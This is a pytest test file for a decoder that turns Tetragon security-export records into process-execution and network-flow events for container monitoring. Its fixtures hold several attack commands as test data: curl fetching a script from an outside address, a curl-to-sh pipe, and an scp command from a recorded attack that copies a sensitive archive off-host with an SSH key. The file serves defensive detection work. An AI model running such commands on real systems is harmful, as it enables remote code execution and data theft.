"""Tetragon's export: whose process it is, what its arguments were, and which calls are connections."""

import json
from pathlib import Path
from typing import Any

import pytest

from tidewaiter.event import ContainerFacts, Event, ImageClaim, NetworkFlow, Pod, ProcessExec, Where
from tidewaiter.sources import RecordError
from tidewaiter.sources._tetragon_record import split_arguments
from tidewaiter.sources.tetragon import SOURCE, decode

SAMPLES = Path(__file__).parents[1] / "samples" / "tetragon"
WHERE = Where("tetragon", "export.log", 1)
CONTAINER = "5c1f0a9be37d" + "46e2" * 13
DIGEST = "sha256:" + "3fa9" * 16
TIME = "2026-09-21T14:13:44.074027776Z"
SOCKET = {"protocol": "IPPROTO_TCP", "saddr": "10.0.1.7", "daddr": "203.0.113.9", "sport": 41234, "dport": 80}


def decoded(record: dict[str, Any] | bytes, where: Where = WHERE) -> list[Event]:
    """The events of one record."""
    return list(decode(record if isinstance(record, bytes) else json.dumps(record).encode(), where))


def process(**fields: Any) -> dict[str, Any]:
    """A process of a container that only the cgroup tells."""
    return {"exec_id": "e1", "pid": 4101, "binary": "/bin/sh", "docker": CONTAINER[:31]} | fields


def executed(where: Where = WHERE, **fields: Any) -> ProcessExec:
    """The execution in a `process_exec` whose process has these fields."""
    events = decoded({"process_exec": {"process": process(**fields)}, "node_name": "node-a", "time": TIME}, where)
    (event,) = [event for event in events if isinstance(event, ProcessExec)]
    return event


def called(function: str, *args: dict[str, Any], kind: str = "process_kprobe", **fields: Any) -> list[Event]:
    """The events of a hooked call."""
    name = {"event": function} if kind == "process_tracepoint" else {"function_name": function}
    call = {"process": process(), "args": list(args)} | name | fields
    return decoded({kind: call, "node_name": "node-a", "time": TIME})


def flow(events: list[Event]) -> NetworkFlow:
    """The one event, which is a connection."""
    (event,) = events
    assert isinstance(event, NetworkFlow)
    return event


def sample(name: str) -> list[list[Event]]:
    """The events of each record of a sample file."""
    return [decoded(line) for line in (SAMPLES / name).read_bytes().splitlines()]


def test_execution_in_a_pod_is_told_in_full() -> None:
    """Container, pod, image, process, parent and moment of a `process_exec`."""
    (event,) = sample("export-1.2-exec.in.jsonl")[0]
    assert event == ProcessExec(
        time_ns=1_790_000_024_074_027_776,
        cluster="default",
        node="node-a",
        where=WHERE,
        native_id="bm9kZS1hOjEwNTc1NzI4MzU4101",
        container_id=CONTAINER,
        runtime="containerd",
        pod=Pod(
            namespace="shop",
            name="web-7d9f8b6c5-x2x4z",
            container_name="web",
            workload_kind="Deployment",
            workload="web",
        ),
        image=ImageClaim(
            reference="registry.example/shop/web:1.4", repo_digest=DIGEST, repository="registry.example/shop/web"
        ),
        exe="/usr/bin/curl",
        args=("/usr/bin/curl", "-fsSL", "http://203.0.113.9/i.sh", "-o", "/app/i.sh"),
        cwd="/app",
        pid=4101,
        parent_pid=4100,
        parent_exe="/bin/bash",
        uid=0,
    )


def test_container_without_a_pod_is_a_prefix() -> None:
    """Outside Kubernetes only the first characters of the id are known; a newer record names its cluster."""
    (event,) = sample("export-1.2-exec.in.jsonl")[2]
    assert isinstance(event, ProcessExec)
    assert (event.container_id, event.container_id_prefix) == (None, "e41ab6c50d7219b")
    assert (event.pod, event.image, event.cluster) == (None, None, "blue")


def test_whole_id_goes_before_the_prefix() -> None:
    """`pod.container.id` wins over `docker`, even where they disagree."""
    event = executed(docker="9b07d4ee120c83f", pod={"name": "web-0", "container": {"id": f"cri-o://{CONTAINER}"}})
    assert (event.container_id, event.container_id_prefix, event.runtime) == (CONTAINER, None, "cri-o")


@pytest.mark.parametrize("written", ["", "containerd://", "containerd://xyz", "containerd://abc123"])
def test_unreadable_id_leaves_the_prefix(written: str) -> None:
    """Where the pod's container has no id that can be read, the cgroup's counts."""
    event = executed(pod={"name": "web-0", "container": {"id": written, "name": "web"}})
    assert (event.container_id, event.container_id_prefix) == (None, CONTAINER[:31])
    assert event.pod == Pod(name="web-0", container_name="web")


def test_pod_alone_is_enough() -> None:
    """A process that is known to be a pod's, but no container's, is still told."""
    event = executed(docker="", pod={"namespace": "default", "name": "web-0", "uid": "u-1"})
    assert (event.container_id, event.container_id_prefix) == (None, None)
    assert event.pod == Pod(namespace="default", name="web-0", uid="u-1")


def test_process_of_the_host_is_no_event() -> None:
    """Neither its executions nor its connections."""
    assert sample("export-1.2-exec.in.jsonl")[3] == []
    assert sample("export-1.2-network.in.jsonl")[-1] == []


def test_node_and_cluster_fall_back_on_what_the_user_named() -> None:
    """`--node` and `--cluster` fill what the record does not say."""
    where = Where("tetragon", "export.log", 1, "blue", "node-z")
    record = {"process_exec": {"process": process()}, "time": TIME}
    (event,) = decoded(record, where)
    assert (event.cluster, event.node) == ("blue", "node-z")
    (event,) = decoded(record | {"node_name": "node-a", "cluster_name": "red"}, where)
    assert (event.cluster, event.node) == ("red", "node-a")


@pytest.mark.parametrize(
    ("image", "claim"),
    [
        ({"id": f"docker-pullable://nginx@{DIGEST}", "name": "nginx:1.25"}, ("nginx:1.25", None, DIGEST)),
        ({"id": DIGEST, "name": DIGEST}, (DIGEST, DIGEST, None)),
        ({"id": f"docker://{DIGEST}", "name": "nginx"}, ("nginx", DIGEST, None)),
        ({"id": "nonsense@@", "name": "nginx"}, ("nginx", None, None)),
        ({"name": "nginx"}, ("nginx", None, None)),
    ],
)
def test_image_id_is_read_by_its_form(image: dict[str, str], claim: tuple[str | None, str | None, str | None]) -> None:
    """repository@digest is a registry's digest, a bare one the config's: it depends on the runtime."""
    event = executed(pod={"name": "web-0", "container": {"image": image}})
    assert event.image is not None
    assert (event.image.reference, event.image.config_digest, event.image.repo_digest) == claim
    assert not event.image.from_runtime


@pytest.mark.parametrize("image", [{}, {"id": "a" * 5000, "name": "nginx"}, {"id": "nonsense"}])
def test_image_that_says_nothing_is_no_claim(image: dict[str, str]) -> None:
    """Nor does one that is longer than any name."""
    assert executed(pod={"name": "web-0", "container": {"image": image}}).image is None


@pytest.mark.parametrize(
    ("text", "arguments"),
    [
        ("", []),
        ("-l", ["-l"]),
        ("-fsSL http://203.0.113.9/ -o x", ["-fsSL", "http://203.0.113.9/", "-o", "x"]),
        ("a  b", ["a", "", "b"]),
        ('-c "echo a b"', ["-c", "echo a b"]),
        (' "echo a b" c', ["echo a b", "c"]),
        ('-c "echo a b" "c d"', ["-c", "echo a b", "c d"]),
        ('-c "curl -H "X-Key: 1" http://a/ | sh" last', ["-c", 'curl -H "X-Key: 1" http://a/ | sh', "last"]),
        ('-c "say "hi" there"', ["-c", 'say "hi" there']),
        ('"a "b" x "c d"', ['a "b', "x", "c d"]),
        ('{"docker":"x"}', ['{"docker":"x"}']),
        ('"open', ['"open']),
        ('close" x', ['close"', "x"]),
        ('" lead" end', [" lead", "end"]),
        ('"trail " end', ["trail ", "end"]),
        ('"', ['"']),
    ],
)
def test_joined_arguments_are_split_again(text: str, arguments: list[str]) -> None:
    """Blanks join, quotation marks surround what holds a blank, and nothing is escaped."""
    assert split_arguments(text) == arguments


def test_splitting_takes_time_in_proportion() -> None:
    """A record full of quotation marks is split word by word, not pair by pair."""
    words = split_arguments('" x' * 200_000)
    assert "".join(words).count("x") == 200_000


def test_privileged_container_is_told_beside_the_execution() -> None:
    """Newer releases copy `privileged` from the pod's spec."""
    facts, event = sample("export-1.2-exec.in.jsonl")[4]
    assert isinstance(facts, ContainerFacts)
    assert isinstance(event, ProcessExec)
    assert facts.privileged is True
    assert (facts.created_ns, facts.started_ns) == (None, None)
    assert facts.container_id == event.container_id == CONTAINER
    assert (
        len(decoded({"process_exec": {"process": process(pod={"container": {"security_context": {}}})}, "time": TIME}))
        == 1
    )


def test_unlinked_binary_is_in_no_layer() -> None:
    """A file without a name is drift, unless it is the runtime's copy of itself; of other files nothing is known."""
    events = sample("export-1.2-exec.in.jsonl")
    drift, clone = events[4][-1], events[5][-1]
    assert isinstance(drift, ProcessExec)
    assert isinstance(clone, ProcessExec)
    assert (drift.is_upper_layer, clone.is_upper_layer, executed().is_upper_layer) == (True, None, None)
    named = executed(binary_properties={"file": {"inode": {"number": "7", "links": 1}}})
    assert named.is_upper_layer is None
    assert executed(binary_properties={"setuid": 0}).is_upper_layer is None


def test_connects_are_egress() -> None:
    """Kprobes, LSM hooks and tracepoints that open a connection, with the address that the caller gave."""
    flows = [event for events in sample("export-1.2-network.in.jsonl") for event in events]
    assert all(isinstance(event, NetworkFlow) for event in flows)
    told = [(e.dst_ip, e.dst_port, e.protocol, e.direction) for e in flows if isinstance(e, NetworkFlow)]
    assert told == [
        ("203.0.113.9", 80, "tcp", "egress"),
        ("2001:db8::9", 443, None, "egress"),
        ("198.51.100.4", 8443, None, "egress"),
        ("198.51.100.53", 53, "udp", "egress"),
        ("198.51.100.77", 52100, "tcp", "unknown"),
        ("203.0.113.10", 22, None, "egress"),
        ("203.0.113.11", 4444, None, "egress"),
        ("203.0.113.12", 3333, "tcp", "egress"),
    ]


def test_connection_carries_its_process() -> None:
    """Container, own address, executable and pid; exec_id belongs to the process, not to the record."""
    event = flow(called("tcp_connect", {"sock_arg": SOCKET}))
    assert (event.container_id_prefix, event.src_ip, event.exe, event.pid) == (
        CONTAINER[:31],
        "10.0.1.7",
        "/bin/sh",
        4101,
    )
    assert event.native_id is None
    assert event.is_initiator_proven


@pytest.mark.parametrize(
    ("fields", "is_refused"),
    [
        ({}, False),
        ({"return": {"int_arg": 0}}, False),
        ({"return": {"int_arg": -115}}, False),
        ({"return": {"int_arg": -111}}, True),
        ({"return": {"int_arg": -13}}, True),
        ({"action": "KPROBE_ACTION_OVERRIDE"}, True),
        ({"action": "KPROBE_ACTION_SIGKILL"}, False),
    ],
)
def test_refusal_is_told_by_the_return_or_the_action(fields: dict[str, Any], is_refused: bool) -> None:
    """EINPROGRESS is no refusal; an overridden call is one."""
    event = flow(called("__x64_sys_connect", {"sockaddr_arg": {"addr": "203.0.113.9", "port": 80}}, **fields))
    assert event.is_refused is is_refused


@pytest.mark.parametrize(
    ("sport", "dport", "is_ours"),
    [(45729, 53, True), (0, 53, True), (None, 53, True), (53, 45729, False), (50051, 41000, False), (8080, 443, False)],
)
def test_ports_tell_who_began_where_the_call_does_not(sport: int | None, dport: int, is_ours: bool) -> None:
    """A datagram from an ephemeral port to a lower one is a question; anything else may be an answer."""
    event = flow(called("udp_sendmsg", {"sock_arg": SOCKET | {"sport": sport, "dport": dport}}))
    assert event.is_initiator_proven is is_ours
    assert event.direction == ("egress" if is_ours else "unknown")


@pytest.mark.parametrize(
    "events",
    [
        called("security_socket_bind", {"sockaddr_arg": {"addr": "203.0.113.9", "port": 80}}),
        called("inet_csk_accept", {"sock_arg": SOCKET}),
        called("tcp_connect"),
        called("tcp_connect", {"sock_arg": {"daddr": "not an address"}}),
        called("__x64_sys_connect", {"sockaddr_arg": {"family": "AF_UNIX"}}),
        called("inet_sock_set_state", {"sock_arg": SOCKET}, {"int_arg": 2}, {"int_arg": 1}, kind="process_tracepoint"),
        called("sys_enter_openat", {"sockaddr_arg": {"addr": "203.0.113.9"}}, kind="process_tracepoint"),
        called("tcp_connect", {"sock_arg": SOCKET}, process=None),
    ],
)
def test_other_calls_are_no_connections(events: list[Event]) -> None:
    """Binding, accepting, local sockets, calls without an address or a process."""
    assert events == []


def test_older_connections_are_read() -> None:
    """`process_connect` proves who began; `process_close` tells it by the ports; listeners say nothing."""
    connected, closed, served, listening, accepting = sample("export-2022.in.jsonl")
    assert (flow(connected).direction, flow(connected).dst_name) == ("egress", "www.site.example")
    assert (flow(closed).direction, flow(closed).is_initiator_proven) == ("egress", True)
    assert (flow(served).direction, flow(served).is_initiator_proven) == ("unknown", False)
    assert (listening, accepting) == ([], [])


def test_exits_and_notices_are_no_events() -> None:
    """The end of a process, and the exporter's own words."""
    assert sample("export-1.2-exec.in.jsonl")[-2:] == [[], []]
    assert decoded(b'{"process_exit":{"process":null},"time":"rubbish"}') == []
    assert decoded(b"{}") == []


@pytest.mark.parametrize(
    "record",
    [
        b"",
        b"\x00\xff",
        b"[]",
        b"null",
        b'{"process_exec":',
        b'{"process_exec":{"process":{"pid":"x"}}}',
        b'{"process_exec":{},"time":"2026-09-21T14:13:44Z"}',
        b'{"process_exec":{"process":{"docker":"5c1f0a9be37d46e"}}}',
        b'{"process_exec":{"process":{"docker":"5c1f0a9be37d46e"}},"time":"yesterday"}',
        b'{"process_exec":{"process":{"docker":"5c1f0a9be37d46e"}},"time":"1869-09-21T14:13:44Z"}',
        b'{"process_exec":{"process":{"binary":"\xff","docker":"5c1f0a9be37d46e"}},"time":"2026-09-21T14:13:44Z"}',
        b'{"x":' + b"[" * 100_000,
        b'{"process_kprobe":{"args":{}}}',
        b'{"process_exec":{"process":{"pid":1e999,"docker":"5c1f0a9be37d46e"}},"time":"2026-09-21T14:13:44Z"}',
    ],
)
def test_rubbish_is_rejected(record: bytes) -> None:
    """Broken JSON, wrong types, no process, no time: one kind of error."""
    with pytest.raises(RecordError):
        decoded(record)


def test_nulls_and_odd_text_pass_through() -> None:
    """NUL and control characters are the attacker's arguments: kept as they are."""
    event = executed(arguments="a\x00b \x1b[31mc")
    assert event.args == ("/bin/sh", "a\x00b", "\x1b[31mc")
    assert executed(binary="").args == ()


@pytest.mark.parametrize("name", ["export-1.2-exec.in.jsonl", "export-1.2-network.in.jsonl", "export-2022.in.jsonl"])
def test_samples_are_recognised(name: str) -> None:
    """By shape, and all but the exporter's own notices by their opening as well."""
    assert SOURCE.recognise is not None
    for line in (SAMPLES / name).read_bytes().splitlines():
        assert SOURCE.recognise(json.loads(line))
        assert line.startswith((*SOURCE.prefixes, b'{"rate_limit_info"'))


def test_foreign_shapes_are_not_recognised() -> None:
    """Kinds that are no objects, and a `test` that is another's."""
    assert SOURCE.recognise is not None
    assert not SOURCE.recognise({"process_exec": "x", "time": TIME})
    assert not SOURCE.recognise({"test": {"arg0": "1"}})
    assert not SOURCE.recognise({"process": {"pid": 1}})


def test_recordings_of_a_real_attack_are_decoded(shared: Path) -> None:
    """The public recordings: a shell in a container reaches the host, an agent calls out, and what is no behaviour."""
    found = {path.stem: decoded(path.read_bytes()) for path in sorted((shared / "samples" / "tetragon").glob("*.json"))}
    assert len(found) == 20
    kinds = {name: [type(event).__name__ for event in events] for name, events in found.items()}
    assert kinds["00_four_golden_signals__process_listen"] == []
    assert sum(kind == ["ProcessExec"] for kind in kinds.values()) == 8
    assert sum(kind == ["NetworkFlow"] for kind in kinds.values()) == 3
    close = flow(found["00_process_lifecycle__nc_process_close"])
    assert (close.dst_ip, close.dst_port, close.direction) == ("64.225.45.153", 443, "egress")
    assert close.container_id is not None
    assert close.container_id.startswith("e6af4dff4ea3")
    (scp,) = found["03_security_observability_events__03_post_exploitation_techniques__merlin-agent-scp-sh"]
    assert isinstance(scp, ProcessExec)
    assert scp.args == ("/bin/sh", "-c", "scp -i ~/.ssh/id_rsa s3nsitiv3.7z natalia@34.116.205.187:~")
    assert scp.container_id_prefix == "80976c957594cea6d9f58d12"


def test_every_kind_of_event_is_recognised(shared: Path) -> None:
    """The generated records of each kind: one execution, known by its pod alone."""
    assert SOURCE.recognise is not None
    events: list[Event] = []
    for path in sorted((shared / "samples" / "tetragon_synthetic").glob("*.json")):
        assert SOURCE.recognise(json.loads(path.read_bytes()))
        events += decoded(path.read_bytes())
    (event,) = events
    assert isinstance(event, ProcessExec)
    assert event.pod == Pod(namespace="default", name="nginx-7b4f8d6c5-x9k2m", container_name="nginx")
    assert event.args == ("/usr/bin/curl", "https://example.com")
